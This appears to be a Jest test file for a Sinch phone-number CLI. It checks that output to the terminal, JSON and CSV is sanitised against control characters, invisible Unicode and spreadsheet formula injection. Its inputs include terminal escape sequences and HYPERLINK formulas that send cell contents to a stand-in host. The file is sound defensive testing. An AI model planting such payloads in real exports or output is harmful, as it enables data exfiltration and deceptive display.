import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { join } from 'node:path';
import { toCsv } from '../../src/cli/csv';
import { printable, toJson } from '../../src/cli/terminal';
import { ScriptedSinch } from '../sinch/scripted-sinch';
import { typed } from '../support/command-line';
import { json } from '../support/scripted-server';

/** Clears the screen, renames the window; and the second is one that ASCII does not know. */
const ESCAPES = ['\u001b[2J\u001b]0;owned\u0007', '\u009b2J'];

describe('control characters in texts of Sinch and of senders do not reach the terminal', () => {
  it.each(ESCAPES)('when numbers are searched for (%j)', async (escape) => {
    const sinch = await ScriptedSinch.start();
    sinch.answers(json(200, { availableNumbers: [{ phoneNumber: `+61${escape}`, capability: [escape] }] }));
    const env = {
      SINCH_PROJECT_ID: 'project-1',
      SINCH_KEY_ID: 'key',
      SINCH_KEY_SECRET: 'secret',
      SINCH_AUTHENTICATION: 'basic',
      SINCH_NUMBERS_URL: sinch.server.url,
    };
    const [shown, asJson] = [
      await typed(['search', 'AU', 'MOBILE'], { env }),
      await typed(['search', 'AU', 'MOBILE', '--json'], { env }),
    ];
    await sinch.close();
    expect(shown.out).toMatch(/^\+61 /);
    expect(shown.out + asJson.out).not.toMatch(/[^\P{Cc}\n]/u);
    expect(JSON.parse(asJson.out)).toMatchObject([{ phoneNumber: `+61${escape}` }]);
  });

  it.each(ESCAPES)('in JSON, where they are escaped and no text is changed (%j)', (escape) => {
    const written = toJson({ reason: escape });
    expect(written).not.toMatch(/[^\P{Cc}\n]/u);
    expect(JSON.parse(written)).toEqual({ reason: escape });
  });

  it.each(ESCAPES)('in CSV (%j)', (escape) => {
    expect(toCsv([['2026', escape]])).not.toMatch(/[^\P{Cc}\r\n]/u);
    expect(toCsv([[`${escape}=1+1`]])).not.toMatch(/^\s*=/);
  });
});

/** Each of a kind: of direction, without width, of another plane, and half a character. */
const UNSEEN = [
  '\u202e',
  '\u2066',
  '\u061c',
  '\u200b',
  '\u2060',
  '\u00ad',
  '\ufeff',
  '\u2028',
  '\u2029',
  '\u3164',
  '\ufe0f',
];
UNSEEN.push('\u{e0041}', '\u{1d173}', '\ud83d');

describe('a character that is invisible or changes the direction of writing', () => {
  it.each(UNSEEN)('is not printed, because a text would look like a different one (%j)', (unseen) => {
    expect(printable(`+61${unseen}${unseen}8`)).toBe('+61 8');
  });

  it.each(UNSEEN)('is escaped in JSON, which keeps the text (%j)', (unseen) => {
    const written = toJson({ [unseen]: unseen });
    expect(written).toMatch(/^[\x20-\x7e\n]*$/);
    expect(JSON.parse(written)).toEqual({ [unseen]: unseen });
  });

  it('is the only kind that is removed: names in any script are printed unchanged', () => {
    const seen = 'Zoë Ångström 王芳 Мария شركة ไทย 👩 +61 480 000 000';
    expect(printable(seen)).toBe(seen);
    expect(JSON.parse(toJson(seen))).toBe(seen);
    expect(toJson(seen)).toContain(seen);
  });
});

describe('a spreadsheet', () => {
  /** As a spreadsheet takes it apart that separates by commas, and one that separates by semicolons. */
  const cells = (csv: string) => [
    ...csv.split(/\r?\n/).flatMap((line) => line.split(';')),
    ...[...csv.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/gm)].map(([, quoted, bare]) => quoted ?? bare ?? ''),
  ];
  const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
  const before = [
    '',
    ' ',
    '\t',
    '\r',
    '\u00a0',
    '\u200b',
    '\u2060',
    '\u00ad',
    '\ufeff',
    '\u3000',
    '"',
    '; ',
    'bob;',
    'bob;"',
    'bob\n',
    'a,b;\t',
  ];

  it.each(starts.flatMap((start) => before.map((text) => [`${text}${start}HYPERLINK("http://x.example/?"&A1)`])))(
    'runs no formula in a text such as %j',
    (text) => {
      const formulas = cells(toCsv([['2026', text, 'ok']])).filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell));
      expect(formulas).toEqual([]);
    },
  );

  it('shows text that is no formula unchanged', () => {
    const row = ['2026-01-31T18:00:00Z', 'ref-1', 'a=b; c', 'said "no", twice'];
    expect(toCsv([row])).toBe('2026-01-31T18:00:00Z,ref-1,a=b; c,"said ""no"", twice"\r\n');
  });
});

describe('a reader that closes the pipe early, such as head,', () => {
  it('ends the command without an error', async () => {
    const main = join(__dirname, '../../dist/src/cli/main.js');
    const child = spawn(process.execPath, [main, '--help'], { stdio: ['ignore', 'pipe', 'pipe'] });
    child.stdout.destroy();
    let complaint = '';
    child.stderr.on('data', (chunk: Buffer) => (complaint += chunk.toString()));
    const [code] = (await once(child, 'close')) as [number];
    expect({ code, complaint }).toEqual({ code: 141, complaint: '' });
  });
});
